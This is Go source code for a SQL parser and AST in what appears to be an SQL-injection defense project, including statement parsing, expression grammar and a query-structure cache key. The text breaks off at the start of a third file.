