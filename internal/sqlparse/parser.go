package sqlparse

import (
	"fmt"
	"strconv"
	"strings"

	"joza/internal/sqltoken"
)

// SyntaxError describes a parse failure with its byte position.
type SyntaxError struct {
	Pos int
	Msg string
}

// Error implements the error interface.
func (e *SyntaxError) Error() string {
	return fmt.Sprintf("sql syntax error at byte %d: %s", e.Pos, e.Msg)
}

// Parse parses a single SQL statement in the MySQL dialect. Trailing
// semicolons are permitted.
func Parse(query string) (Statement, error) {
	return ParseDialect(sqltoken.MySQL, query)
}

// ParseDialect parses a single SQL statement tokenized under dialect d.
// The grammar itself is the shared cross-dialect subset; what changes per
// dialect is the token stream (quote semantics, placeholders, comments).
func ParseDialect(d sqltoken.Dialect, query string) (Statement, error) {
	p := &parser{toks: lexForParse(d, query), srcLen: len(query), d: d}
	stmt, err := p.parseStatement()
	if err != nil {
		return nil, err
	}
	// Allow trailing semicolons.
	for p.peekIs(sqltoken.KindPunct, ";") {
		p.next()
	}
	if !p.eof() {
		return nil, p.errorf("unexpected %q after statement", p.peek().Text)
	}
	return stmt, nil
}

// lexForParse tokenizes query under d and drops comments, which are not
// semantically meaningful for parsing.
func lexForParse(d sqltoken.Dialect, query string) []sqltoken.Token {
	toks := d.Lex(query)
	filtered := toks[:0:0]
	for _, t := range toks {
		if t.Kind != sqltoken.KindComment {
			filtered = append(filtered, t)
		}
	}
	return filtered
}

type parser struct {
	toks   []sqltoken.Token
	pos    int
	srcLen int
	d      sqltoken.Dialect
}

func (p *parser) eof() bool { return p.pos >= len(p.toks) }

func (p *parser) peek() sqltoken.Token {
	if p.eof() {
		return sqltoken.Token{Start: p.srcLen, End: p.srcLen}
	}
	return p.toks[p.pos]
}

func (p *parser) next() sqltoken.Token {
	t := p.peek()
	if !p.eof() {
		p.pos++
	}
	return t
}

func (p *parser) errorf(format string, args ...any) error {
	return &SyntaxError{Pos: p.peek().Start, Msg: fmt.Sprintf(format, args...)}
}

// peekIs reports whether the next token has the given kind and
// (case-insensitively) the given text. Empty text matches any text.
func (p *parser) peekIs(kind sqltoken.Kind, text string) bool {
	t := p.peek()
	if t.Kind != kind {
		return false
	}
	return text == "" || strings.EqualFold(t.Text, text)
}

func (p *parser) acceptKeyword(word string) bool {
	if p.peekIs(sqltoken.KindKeyword, word) {
		p.next()
		return true
	}
	return false
}

func (p *parser) expectKeyword(word string) error {
	if !p.acceptKeyword(word) {
		return p.errorf("expected %s, got %q", word, p.peek().Text)
	}
	return nil
}

func (p *parser) acceptPunct(text string) bool {
	if p.peekIs(sqltoken.KindPunct, text) {
		p.next()
		return true
	}
	return false
}

func (p *parser) expectPunct(text string) error {
	if !p.acceptPunct(text) {
		return p.errorf("expected %q, got %q", text, p.peek().Text)
	}
	return nil
}

// identName returns the name carried by an identifier or quoted-identifier
// token (`…` in MySQL/SQLite, "…" in Postgres/SQLite).
func identName(t sqltoken.Token) string {
	if t.Kind == sqltoken.KindBacktick {
		return strings.Trim(t.Text, "`\"")
	}
	return t.Text
}

func (p *parser) expectIdent() (string, error) {
	t := p.peek()
	switch t.Kind {
	case sqltoken.KindIdent, sqltoken.KindBacktick:
		p.next()
		return identName(t), nil
	case sqltoken.KindKeyword:
		// Non-reserved usage: allow keywords as bare names where MySQL
		// commonly does (e.g. a column named "key" via backticks is
		// preferred, but be lenient for data words like "year").
		p.next()
		return t.Text, nil
	default:
		return "", p.errorf("expected identifier, got %q", t.Text)
	}
}

func (p *parser) parseStatement() (Statement, error) {
	t := p.peek()
	if t.Kind != sqltoken.KindKeyword {
		return nil, p.errorf("expected statement keyword, got %q", t.Text)
	}
	switch strings.ToUpper(t.Text) {
	case "SELECT":
		return p.parseSelect()
	case "INSERT":
		return p.parseInsert()
	case "UPDATE":
		return p.parseUpdate()
	case "DELETE":
		return p.parseDelete()
	case "CREATE":
		return p.parseCreate()
	case "DROP":
		return p.parseDrop()
	default:
		return nil, p.errorf("unsupported statement %q", t.Text)
	}
}

func (p *parser) parseSelect() (*SelectStmt, error) {
	if err := p.expectKeyword("SELECT"); err != nil {
		return nil, err
	}
	sel := &SelectStmt{}
	if p.acceptKeyword("DISTINCT") {
		sel.Distinct = true
	} else {
		p.acceptKeyword("ALL")
	}
	for {
		col, err := p.parseSelectExpr()
		if err != nil {
			return nil, err
		}
		sel.Columns = append(sel.Columns, col)
		if !p.acceptPunct(",") {
			break
		}
	}
	if p.acceptKeyword("FROM") {
		name, err := p.expectIdent()
		if err != nil {
			return nil, err
		}
		sel.From = name
		// Optional table alias (AS form or bare).
		if p.acceptKeyword("AS") {
			alias, err := p.expectIdent()
			if err != nil {
				return nil, err
			}
			sel.FromAlias = alias
		} else if p.peekIs(sqltoken.KindIdent, "") {
			sel.FromAlias = identName(p.next())
		}
		for {
			jc, ok, err := p.parseJoin()
			if err != nil {
				return nil, err
			}
			if !ok {
				break
			}
			sel.Joins = append(sel.Joins, jc)
		}
	}
	if p.acceptKeyword("WHERE") {
		e, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		sel.Where = e
	}
	if p.acceptKeyword("GROUP") {
		if err := p.expectKeyword("BY"); err != nil {
			return nil, err
		}
		for {
			e, err := p.parseExpr()
			if err != nil {
				return nil, err
			}
			sel.GroupBy = append(sel.GroupBy, e)
			if !p.acceptPunct(",") {
				break
			}
		}
	}
	if p.acceptKeyword("HAVING") {
		e, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		sel.Having = e
	}
	if p.acceptKeyword("ORDER") {
		if err := p.expectKeyword("BY"); err != nil {
			return nil, err
		}
		for {
			e, err := p.parseExpr()
			if err != nil {
				return nil, err
			}
			item := OrderItem{Expr: e}
			if p.acceptKeyword("DESC") {
				item.Desc = true
			} else {
				p.acceptKeyword("ASC")
			}
			sel.OrderBy = append(sel.OrderBy, item)
			if !p.acceptPunct(",") {
				break
			}
		}
	}
	if p.acceptKeyword("LIMIT") {
		lim, err := p.parseLimit()
		if err != nil {
			return nil, err
		}
		sel.Limit = lim
	}
	if p.acceptKeyword("UNION") {
		uc := &UnionClause{}
		if p.acceptKeyword("ALL") {
			uc.All = true
		} else {
			p.acceptKeyword("DISTINCT")
		}
		right, err := p.parseSelect()
		if err != nil {
			return nil, err
		}
		uc.Right = right
		sel.Union = uc
	}
	return sel, nil
}

// parseJoin parses one JOIN clause if present.
func (p *parser) parseJoin() (JoinClause, bool, error) {
	var jc JoinClause
	switch {
	case p.acceptKeyword("JOIN"):
	case p.peekIs(sqltoken.KindKeyword, "INNER"):
		p.next()
		if err := p.expectKeyword("JOIN"); err != nil {
			return jc, false, err
		}
	case p.peekIs(sqltoken.KindKeyword, "LEFT"):
		p.next()
		p.acceptKeyword("OUTER")
		if err := p.expectKeyword("JOIN"); err != nil {
			return jc, false, err
		}
		jc.Left = true
	case p.peekIs(sqltoken.KindKeyword, "CROSS"):
		p.next()
		if err := p.expectKeyword("JOIN"); err != nil {
			return jc, false, err
		}
	default:
		return jc, false, nil
	}
	name, err := p.expectIdent()
	if err != nil {
		return jc, false, err
	}
	jc.Table = name
	if p.acceptKeyword("AS") {
		alias, err := p.expectIdent()
		if err != nil {
			return jc, false, err
		}
		jc.Alias = alias
	} else if p.peekIs(sqltoken.KindIdent, "") {
		jc.Alias = identName(p.next())
	}
	if p.acceptKeyword("ON") {
		on, err := p.parseExpr()
		if err != nil {
			return jc, false, err
		}
		jc.On = on
	}
	return jc, true, nil
}

func (p *parser) parseSelectExpr() (SelectExpr, error) {
	if p.peekIs(sqltoken.KindOperator, "*") {
		p.next()
		return SelectExpr{Star: true}, nil
	}
	e, err := p.parseExpr()
	if err != nil {
		return SelectExpr{}, err
	}
	col := SelectExpr{Expr: e}
	if p.acceptKeyword("AS") {
		alias, err := p.expectIdent()
		if err != nil {
			return SelectExpr{}, err
		}
		col.Alias = alias
	} else if p.peekIs(sqltoken.KindIdent, "") {
		col.Alias = identName(p.next())
	}
	return col, nil
}

func (p *parser) parseLimit() (*LimitClause, error) {
	first, err := p.parseIntLiteral()
	if err != nil {
		return nil, err
	}
	lim := &LimitClause{Count: first}
	if p.acceptPunct(",") {
		count, err := p.parseIntLiteral()
		if err != nil {
			return nil, err
		}
		lim.Offset = first
		lim.Count = count
	} else if p.acceptKeyword("OFFSET") {
		off, err := p.parseIntLiteral()
		if err != nil {
			return nil, err
		}
		lim.Offset = off
	}
	return lim, nil
}

func (p *parser) parseIntLiteral() (int64, error) {
	t := p.peek()
	if t.Kind != sqltoken.KindNumber {
		return 0, p.errorf("expected integer, got %q", t.Text)
	}
	p.next()
	n, err := strconv.ParseInt(t.Text, 0, 64)
	if err != nil {
		return 0, p.errorf("bad integer %q", t.Text)
	}
	return n, nil
}

func (p *parser) parseInsert() (*InsertStmt, error) {
	if err := p.expectKeyword("INSERT"); err != nil {
		return nil, err
	}
	if err := p.expectKeyword("INTO"); err != nil {
		return nil, err
	}
	table, err := p.expectIdent()
	if err != nil {
		return nil, err
	}
	ins := &InsertStmt{Table: table}
	if p.acceptPunct("(") {
		for {
			name, err := p.expectIdent()
			if err != nil {
				return nil, err
			}
			ins.Columns = append(ins.Columns, name)
			if !p.acceptPunct(",") {
				break
			}
		}
		if err := p.expectPunct(")"); err != nil {
			return nil, err
		}
	}
	if err := p.expectKeyword("VALUES"); err != nil {
		return nil, err
	}
	for {
		if err := p.expectPunct("("); err != nil {
			return nil, err
		}
		var row []Expr
		for {
			e, err := p.parseExpr()
			if err != nil {
				return nil, err
			}
			row = append(row, e)
			if !p.acceptPunct(",") {
				break
			}
		}
		if err := p.expectPunct(")"); err != nil {
			return nil, err
		}
		ins.Rows = append(ins.Rows, row)
		if !p.acceptPunct(",") {
			break
		}
	}
	return ins, nil
}

func (p *parser) parseUpdate() (*UpdateStmt, error) {
	if err := p.expectKeyword("UPDATE"); err != nil {
		return nil, err
	}
	table, err := p.expectIdent()
	if err != nil {
		return nil, err
	}
	if err := p.expectKeyword("SET"); err != nil {
		return nil, err
	}
	upd := &UpdateStmt{Table: table}
	for {
		col, err := p.expectIdent()
		if err != nil {
			return nil, err
		}
		if !p.peekIs(sqltoken.KindOperator, "=") {
			return nil, p.errorf("expected = in SET, got %q", p.peek().Text)
		}
		p.next()
		val, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		upd.Set = append(upd.Set, Assignment{Column: col, Value: val})
		if !p.acceptPunct(",") {
			break
		}
	}
	if p.acceptKeyword("WHERE") {
		e, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		upd.Where = e
	}
	return upd, nil
}

func (p *parser) parseDelete() (*DeleteStmt, error) {
	if err := p.expectKeyword("DELETE"); err != nil {
		return nil, err
	}
	if err := p.expectKeyword("FROM"); err != nil {
		return nil, err
	}
	table, err := p.expectIdent()
	if err != nil {
		return nil, err
	}
	del := &DeleteStmt{Table: table}
	if p.acceptKeyword("WHERE") {
		e, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		del.Where = e
	}
	return del, nil
}

func (p *parser) parseCreate() (*CreateTableStmt, error) {
	if err := p.expectKeyword("CREATE"); err != nil {
		return nil, err
	}
	if err := p.expectKeyword("TABLE"); err != nil {
		return nil, err
	}
	ct := &CreateTableStmt{}
	if p.acceptKeyword("IF") {
		if err := p.expectKeyword("NOT"); err != nil {
			return nil, err
		}
		if !p.acceptKeyword("EXISTS") {
			return nil, p.errorf("expected EXISTS")
		}
		ct.IfNotExists = true
	}
	table, err := p.expectIdent()
	if err != nil {
		return nil, err
	}
	ct.Table = table
	if err := p.expectPunct("("); err != nil {
		return nil, err
	}
	for {
		name, err := p.expectIdent()
		if err != nil {
			return nil, err
		}
		def := ColumnDef{Name: name, Type: "TEXT"}
		// Optional type name with optional (N) size.
		if p.peekIs(sqltoken.KindIdent, "") || p.peekIs(sqltoken.KindKeyword, "") {
			def.Type = strings.ToUpper(p.next().Text)
			if p.acceptPunct("(") {
				for !p.eof() && !p.peekIs(sqltoken.KindPunct, ")") {
					p.next()
				}
				if err := p.expectPunct(")"); err != nil {
					return nil, err
				}
			}
			// Skip column attributes (NOT NULL, PRIMARY KEY, DEFAULT x...).
			for !p.eof() && !p.peekIs(sqltoken.KindPunct, ",") && !p.peekIs(sqltoken.KindPunct, ")") {
				p.next()
			}
		}
		ct.Columns = append(ct.Columns, def)
		if !p.acceptPunct(",") {
			break
		}
	}
	if err := p.expectPunct(")"); err != nil {
		return nil, err
	}
	return ct, nil
}

func (p *parser) parseDrop() (*DropTableStmt, error) {
	if err := p.expectKeyword("DROP"); err != nil {
		return nil, err
	}
	if err := p.expectKeyword("TABLE"); err != nil {
		return nil, err
	}
	dt := &DropTableStmt{}
	if p.acceptKeyword("IF") {
		if !p.acceptKeyword("EXISTS") {
			return nil, p.errorf("expected EXISTS")
		}
		dt.IfExists = true
	}
	table, err := p.expectIdent()
	if err != nil {
		return nil, err
	}
	dt.Table = table
	return dt, nil
}

// Expression grammar, lowest to highest precedence:
//
//	or:      and (OR|'||'|XOR and)*
//	and:     not (AND|'&&' not)*
//	not:     NOT not | predicate
//	pred:    additive ((=|<|>|<=|>=|<>|!=) additive
//	                  | [NOT] LIKE additive | [NOT] IN (...)
//	                  | [NOT] BETWEEN additive AND additive
//	                  | IS [NOT] NULL | [NOT] REGEXP additive)*
//	add:     mul ((+|-) mul)*
//	mul:     unary ((*|/|%|DIV|MOD) unary)*
//	unary:   (-|+|!|~) unary | primary
//	primary: literal | column | function(args) | ( expr ) | placeholder

func (p *parser) parseExpr() (Expr, error) { return p.parseOr() }

func (p *parser) parseOr() (Expr, error) {
	left, err := p.parseAnd()
	if err != nil {
		return nil, err
	}
	for {
		var op string
		switch {
		case p.peekIs(sqltoken.KindKeyword, "OR"), p.peekIs(sqltoken.KindOperator, "||"):
			op = "OR"
		case p.peekIs(sqltoken.KindKeyword, "XOR"):
			op = "XOR"
		default:
			return left, nil
		}
		p.next()
		right, err := p.parseAnd()
		if err != nil {
			return nil, err
		}
		left = &BinaryExpr{Op: op, L: left, R: right}
	}
}

func (p *parser) parseAnd() (Expr, error) {
	left, err := p.parseNot()
	if err != nil {
		return nil, err
	}
	for p.peekIs(sqltoken.KindKeyword, "AND") || p.peekIs(sqltoken.KindOperator, "&&") {
		p.next()
		right, err := p.parseNot()
		if err != nil {
			return nil, err
		}
		left = &BinaryExpr{Op: "AND", L: left, R: right}
	}
	return left, nil
}

func (p *parser) parseNot() (Expr, error) {
	if p.acceptKeyword("NOT") {
		x, err := p.parseNot()
		if err != nil {
			return nil, err
		}
		return &UnaryExpr{Op: "NOT", X: x}, nil
	}
	return p.parsePredicate()
}

var comparisonOps = map[string]bool{
	"=": true, "<": true, ">": true, "<=": true, ">=": true,
	"<>": true, "!=": true,
}

func (p *parser) parsePredicate() (Expr, error) {
	left, err := p.parseAdditive()
	if err != nil {
		return nil, err
	}
	for {
		t := p.peek()
		switch {
		case t.Kind == sqltoken.KindOperator && comparisonOps[t.Text]:
			p.next()
			right, err := p.parseAdditive()
			if err != nil {
				return nil, err
			}
			op := t.Text
			if op == "<>" {
				op = "!="
			}
			left = &BinaryExpr{Op: op, L: left, R: right}
		case p.peekIs(sqltoken.KindKeyword, "IS"):
			p.next()
			not := p.acceptKeyword("NOT")
			if !p.acceptKeyword("NULL") {
				return nil, p.errorf("expected NULL after IS")
			}
			left = &IsNullExpr{X: left, Not: not}
		case p.peekIs(sqltoken.KindKeyword, "LIKE"):
			p.next()
			pat, err := p.parseAdditive()
			if err != nil {
				return nil, err
			}
			left = &LikeExpr{X: left, Pattern: pat}
		case p.peekIs(sqltoken.KindKeyword, "REGEXP") || p.peekIs(sqltoken.KindKeyword, "RLIKE"):
			p.next()
			pat, err := p.parseAdditive()
			if err != nil {
				return nil, err
			}
			left = &BinaryExpr{Op: "REGEXP", L: left, R: pat}
		case p.peekIs(sqltoken.KindKeyword, "IN"):
			p.next()
			in, err := p.parseInList(left, false)
			if err != nil {
				return nil, err
			}
			left = in
		case p.peekIs(sqltoken.KindKeyword, "BETWEEN"):
			p.next()
			b, err := p.parseBetween(left, false)
			if err != nil {
				return nil, err
			}
			left = b
		case p.peekIs(sqltoken.KindKeyword, "NOT"):
			// x NOT LIKE / NOT IN / NOT BETWEEN / NOT REGEXP.
			save := p.pos
			p.next()
			switch {
			case p.acceptKeyword("LIKE"):
				pat, err := p.parseAdditive()
				if err != nil {
					return nil, err
				}
				left = &LikeExpr{X: left, Pattern: pat, Not: true}
			case p.peekIs(sqltoken.KindKeyword, "IN"):
				p.next()
				in, err := p.parseInList(left, true)
				if err != nil {
					return nil, err
				}
				left = in
			case p.peekIs(sqltoken.KindKeyword, "BETWEEN"):
				p.next()
				b, err := p.parseBetween(left, true)
				if err != nil {
					return nil, err
				}
				left = b
			case p.acceptKeyword("REGEXP"), p.acceptKeyword("RLIKE"):
				pat, err := p.parseAdditive()
				if err != nil {
					return nil, err
				}
				left = &UnaryExpr{Op: "NOT", X: &BinaryExpr{Op: "REGEXP", L: left, R: pat}}
			default:
				p.pos = save
				return left, nil
			}
		default:
			return left, nil
		}
	}
}

func (p *parser) parseInList(x Expr, not bool) (Expr, error) {
	if err := p.expectPunct("("); err != nil {
		return nil, err
	}
	in := &InExpr{X: x, Not: not}
	for {
		e, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		in.List = append(in.List, e)
		if !p.acceptPunct(",") {
			break
		}
	}
	if err := p.expectPunct(")"); err != nil {
		return nil, err
	}
	return in, nil
}

func (p *parser) parseBetween(x Expr, not bool) (Expr, error) {
	lo, err := p.parseAdditive()
	if err != nil {
		return nil, err
	}
	if err := p.expectKeyword("AND"); err != nil {
		return nil, err
	}
	hi, err := p.parseAdditive()
	if err != nil {
		return nil, err
	}
	return &BetweenExpr{X: x, Lo: lo, Hi: hi, Not: not}, nil
}

func (p *parser) parseAdditive() (Expr, error) {
	left, err := p.parseMultiplicative()
	if err != nil {
		return nil, err
	}
	for p.peekIs(sqltoken.KindOperator, "+") || p.peekIs(sqltoken.KindOperator, "-") {
		op := p.next().Text
		right, err := p.parseMultiplicative()
		if err != nil {
			return nil, err
		}
		left = &BinaryExpr{Op: op, L: left, R: right}
	}
	return left, nil
}

func (p *parser) parseMultiplicative() (Expr, error) {
	left, err := p.parseUnary()
	if err != nil {
		return nil, err
	}
	for {
		var op string
		switch {
		case p.peekIs(sqltoken.KindOperator, "*"), p.peekIs(sqltoken.KindOperator, "/"),
			p.peekIs(sqltoken.KindOperator, "%"):
			op = p.next().Text
		case p.peekIs(sqltoken.KindKeyword, "DIV"):
			p.next()
			op = "DIV"
		case p.peekIs(sqltoken.KindKeyword, "MOD"):
			p.next()
			op = "%"
		default:
			return left, nil
		}
		right, err := p.parseUnary()
		if err != nil {
			return nil, err
		}
		left = &BinaryExpr{Op: op, L: left, R: right}
	}
}

func (p *parser) parseUnary() (Expr, error) {
	t := p.peek()
	if t.Kind == sqltoken.KindOperator {
		switch t.Text {
		case "-", "+", "!", "~":
			p.next()
			x, err := p.parseUnary()
			if err != nil {
				return nil, err
			}
			op := t.Text
			if op == "!" {
				op = "NOT"
			}
			if op == "+" {
				return x, nil
			}
			return &UnaryExpr{Op: op, X: x}, nil
		}
	}
	return p.parsePrimary()
}

func (p *parser) parsePrimary() (Expr, error) {
	t := p.peek()
	switch t.Kind {
	case sqltoken.KindNumber:
		p.next()
		return &Literal{Kind: LitNumber, Text: t.Text}, nil
	case sqltoken.KindString:
		p.next()
		return &Literal{Kind: LitString, Text: t.Text, Str: decodeString(p.d, t.Text)}, nil
	case sqltoken.KindPlaceholder:
		p.next()
		// Placeholders act as NULL-valued literals for structural parsing.
		return &Literal{Kind: LitNull, Text: t.Text}, nil
	case sqltoken.KindFunction:
		return p.parseFuncCall()
	case sqltoken.KindKeyword:
		switch strings.ToUpper(t.Text) {
		case "NULL":
			p.next()
			return &Literal{Kind: LitNull, Text: t.Text}, nil
		case "TRUE":
			p.next()
			return &Literal{Kind: LitBool, Text: t.Text, Bool: true}, nil
		case "FALSE":
			p.next()
			return &Literal{Kind: LitBool, Text: t.Text, Bool: false}, nil
		case "SELECT":
			return nil, p.errorf("subqueries are not supported")
		case "CASE":
			return nil, p.errorf("CASE expressions are not supported")
		case "BINARY":
			p.next()
			return p.parseUnary()
		case "DATABASE", "REPLACE", "LEFT", "RIGHT", "TRUNCATE":
			// Keywords that double as function names when called.
			if p.pos+1 < len(p.toks) && p.toks[p.pos+1].Kind == sqltoken.KindPunct && p.toks[p.pos+1].Text == "(" {
				return p.parseFuncCall()
			}
			return nil, p.errorf("unexpected keyword %q in expression", t.Text)
		default:
			return nil, p.errorf("unexpected keyword %q in expression", t.Text)
		}
	case sqltoken.KindIdent, sqltoken.KindBacktick:
		// Function call if followed by '(' (for names not in the builtin
		// list the lexer leaves them as idents).
		if p.pos+1 < len(p.toks) && p.toks[p.pos+1].Kind == sqltoken.KindPunct && p.toks[p.pos+1].Text == "(" {
			return p.parseFuncCall()
		}
		p.next()
		ref := &ColumnRef{Name: identName(t)}
		// Qualified reference: table.column.
		if p.acceptPunct(".") {
			col, err := p.expectIdent()
			if err != nil {
				return nil, err
			}
			ref.Table = ref.Name
			ref.Name = col
		}
		return ref, nil
	case sqltoken.KindVariable:
		p.next()
		return &ColumnRef{Name: t.Text}, nil
	case sqltoken.KindPunct:
		if t.Text == "(" {
			p.next()
			e, err := p.parseExpr()
			if err != nil {
				return nil, err
			}
			if err := p.expectPunct(")"); err != nil {
				return nil, err
			}
			return e, nil
		}
	}
	return nil, p.errorf("unexpected token %q in expression", t.Text)
}

func (p *parser) parseFuncCall() (Expr, error) {
	name := p.next().Text
	if err := p.expectPunct("("); err != nil {
		return nil, err
	}
	fc := &FuncCall{Name: strings.ToUpper(name)}
	if p.peekIs(sqltoken.KindOperator, "*") {
		p.next()
		fc.Star = true
		if err := p.expectPunct(")"); err != nil {
			return nil, err
		}
		return fc, nil
	}
	if p.acceptPunct(")") {
		return fc, nil
	}
	for {
		e, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		fc.Args = append(fc.Args, e)
		if !p.acceptPunct(",") {
			break
		}
	}
	if err := p.expectPunct(")"); err != nil {
		return nil, err
	}
	return fc, nil
}

// decodeString strips the quotes from a SQL string literal and resolves
// the escapes dialect d recognizes: backslash escapes in MySQL (and in
// Postgres E'…' strings), doubled-quote escapes everywhere. Dollar-quoted
// bodies are verbatim — no escape of any kind is live inside them.
func decodeString(d sqltoken.Dialect, text string) string {
	backslash := d == sqltoken.MySQL
	if text != "" && text[0] == '$' {
		// $tag$…$tag$ (Postgres). MySQL/SQLite string tokens never start
		// with '$', so this branch cannot misfire there.
		if i := strings.IndexByte(text[1:], '$'); i >= 0 {
			tag := text[:i+2]
			return strings.TrimSuffix(text[len(tag):], tag)
		}
	}
	if len(text) >= 2 && (text[0] == 'E' || text[0] == 'e') && text[1] == '\'' {
		text = text[1:]
		backslash = true
	}
	if len(text) < 2 {
		return strings.Trim(text, `'"`)
	}
	quote := text[0]
	body := text[1:]
	if body[len(body)-1] == quote {
		body = body[:len(body)-1]
	}
	var sb strings.Builder
	sb.Grow(len(body))
	for i := 0; i < len(body); i++ {
		c := body[i]
		if backslash && c == '\\' && i+1 < len(body) {
			i++
			switch body[i] {
			case 'n':
				sb.WriteByte('\n')
			case 't':
				sb.WriteByte('\t')
			case 'r':
				sb.WriteByte('\r')
			case '0':
				sb.WriteByte(0)
			default:
				sb.WriteByte(body[i])
			}
			continue
		}
		if c == quote && i+1 < len(body) && body[i+1] == quote {
			sb.WriteByte(quote)
			i++
			continue
		}
		sb.WriteByte(c)
	}
	return sb.String()
}
