// Package sqlparse implements a recursive-descent parser for the MySQL
// dialect subset exercised by the Joza evaluation: SELECT (with WHERE,
// GROUP BY, HAVING, ORDER BY, LIMIT and UNION [ALL]), INSERT, UPDATE,
// DELETE, CREATE TABLE and DROP TABLE, plus a full expression grammar.
//
// The parser serves three consumers:
//
//   - the PTI daemon parses intercepted queries to locate critical tokens
//     before fragment matching (the paper's second PTI optimization);
//   - the query-structure cache keys on a skeleton of the query in which
//     data nodes (numbers, string literals) are blanked out, so queries
//     differing only in data share one cached safety verdict;
//   - the minidb engine executes the AST so testbed exploits really run.
package sqlparse

import (
	"strings"

	"joza/internal/sqltoken"
)

// Statement is implemented by all top-level SQL statement nodes.
type Statement interface {
	stmtNode()
}

// SelectStmt is a SELECT statement, optionally chained with UNION.
type SelectStmt struct {
	Distinct bool
	Columns  []SelectExpr
	// From is empty for table-less selects such as "SELECT 1".
	From string
	// FromAlias is the optional alias of the FROM table.
	FromAlias string
	// Joins are the JOIN clauses following FROM, in order.
	Joins   []JoinClause
	Where   Expr
	GroupBy []Expr
	Having  Expr
	OrderBy []OrderItem
	Limit   *LimitClause
	// Union chains the next SELECT of a UNION, if any.
	Union *UnionClause
}

// JoinClause is one JOIN following the FROM table.
type JoinClause struct {
	Table string
	Alias string
	// On is the join condition; nil for CROSS JOIN.
	On Expr
	// Left marks a LEFT [OUTER] JOIN; unmatched left rows are kept with
	// NULL right columns.
	Left bool
}

// SelectExpr is one projected column of a SELECT.
type SelectExpr struct {
	// Star is set for a bare "*" projection; Expr is nil in that case.
	Star  bool
	Expr  Expr
	Alias string
}

// UnionClause links a SELECT to the next arm of a UNION.
type UnionClause struct {
	All   bool
	Right *SelectStmt
}

// OrderItem is one ORDER BY key.
type OrderItem struct {
	Expr Expr
	Desc bool
}

// LimitClause is a LIMIT [offset,] count clause.
type LimitClause struct {
	Offset int64
	Count  int64
}

// InsertStmt is an INSERT INTO statement with inline VALUES.
type InsertStmt struct {
	Table   string
	Columns []string
	Rows    [][]Expr
}

// UpdateStmt is an UPDATE statement.
type UpdateStmt struct {
	Table string
	Set   []Assignment
	Where Expr
}

// Assignment is one "col = expr" pair in an UPDATE SET list.
type Assignment struct {
	Column string
	Value  Expr
}

// DeleteStmt is a DELETE FROM statement.
type DeleteStmt struct {
	Table string
	Where Expr
}

// CreateTableStmt is a CREATE TABLE statement.
type CreateTableStmt struct {
	Table       string
	IfNotExists bool
	Columns     []ColumnDef
}

// ColumnDef is one column definition in CREATE TABLE.
type ColumnDef struct {
	Name string
	// Type is the declared type name, upper-cased (INT, TEXT, VARCHAR, ...).
	Type string
}

// DropTableStmt is a DROP TABLE statement.
type DropTableStmt struct {
	Table    string
	IfExists bool
}

func (*SelectStmt) stmtNode()      {}
func (*InsertStmt) stmtNode()      {}
func (*UpdateStmt) stmtNode()      {}
func (*DeleteStmt) stmtNode()      {}
func (*CreateTableStmt) stmtNode() {}
func (*DropTableStmt) stmtNode()   {}

// Expr is implemented by all expression nodes.
type Expr interface {
	exprNode()
}

// BinaryExpr is a binary operation; Op is the upper-cased operator or
// keyword (e.g. "=", "AND", "OR", "+").
type BinaryExpr struct {
	Op string
	L  Expr
	R  Expr
}

// UnaryExpr is a prefix operation: "-", "+", "NOT", "!".
type UnaryExpr struct {
	Op string
	X  Expr
}

// LiteralKind discriminates Literal values.
type LiteralKind int

// Literal kinds.
const (
	LitNumber LiteralKind = iota + 1
	LitString
	LitNull
	LitBool
)

// Literal is a literal value. For LitNumber, Text holds the source text;
// for LitString, Str holds the decoded contents; for LitBool, Bool holds
// the value.
type Literal struct {
	Kind LiteralKind
	Text string
	Str  string
	Bool bool
}

// ColumnRef names a column, optionally table-qualified.
type ColumnRef struct {
	Table string
	Name  string
}

// FuncCall is a function invocation. Star is set for COUNT(*).
type FuncCall struct {
	Name string
	Args []Expr
	Star bool
}

// InExpr is "x [NOT] IN (list)".
type InExpr struct {
	X    Expr
	List []Expr
	Not  bool
}

// BetweenExpr is "x [NOT] BETWEEN lo AND hi".
type BetweenExpr struct {
	X   Expr
	Lo  Expr
	Hi  Expr
	Not bool
}

// LikeExpr is "x [NOT] LIKE pattern".
type LikeExpr struct {
	X       Expr
	Pattern Expr
	Not     bool
}

// IsNullExpr is "x IS [NOT] NULL".
type IsNullExpr struct {
	X   Expr
	Not bool
}

func (*BinaryExpr) exprNode()  {}
func (*UnaryExpr) exprNode()   {}
func (*Literal) exprNode()     {}
func (*ColumnRef) exprNode()   {}
func (*FuncCall) exprNode()    {}
func (*InExpr) exprNode()      {}
func (*BetweenExpr) exprNode() {}
func (*LikeExpr) exprNode()    {}
func (*IsNullExpr) exprNode()  {}

// StructureKey returns a skeleton of query in which data tokens (numbers
// and string-literal bodies) are replaced by fixed markers while all other
// bytes — keywords, operators, comments, and even inter-token whitespace —
// are preserved verbatim. Two queries share a StructureKey iff they are
// identical except for data values.
//
// Byte-exactness outside data positions is a soundness requirement of the
// PTI query-structure cache: fragment coverage is a byte-level property
// (case- and whitespace-sensitive), so a cached "safe" verdict may only be
// reused by queries whose non-data bytes are identical. A key that
// case-normalized keywords would let a safe lowercase variant certify an
// unsafe uppercase one.
func StructureKey(query string) string {
	return StructureKeyDialect(sqltoken.MySQL, query)
}

// StructureKeyDialect is StructureKey tokenized under dialect d. Keys from
// different dialects must never share a cache namespace: the same bytes can
// lex to different string/code boundaries per dialect (a dollar-quoted body
// is data in Postgres and live tokens in MySQL), so callers key caches by
// (dialect, skeleton), not skeleton alone.
func StructureKeyDialect(d sqltoken.Dialect, query string) string {
	toks := d.Lex(query)
	var sb strings.Builder
	sb.Grow(len(query))
	pos := 0
	for _, t := range toks {
		sb.WriteString(query[pos:t.Start])
		switch t.Kind {
		case sqltoken.KindNumber:
			sb.WriteString("\x00N")
		case sqltoken.KindString:
			// Keep the quote characters: adjacent-coverage of operators
			// next to a literal depends on the quote byte.
			sb.WriteByte(query[t.Start])
			sb.WriteString("\x00S")
			if !t.Unterminated {
				sb.WriteByte(query[t.End-1])
			}
		default:
			sb.WriteString(t.Text)
		}
		pos = t.End
	}
	sb.WriteString(query[pos:])
	return sb.String()
}
