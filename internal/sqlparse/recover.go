package sqlparse

import (
	"strings"

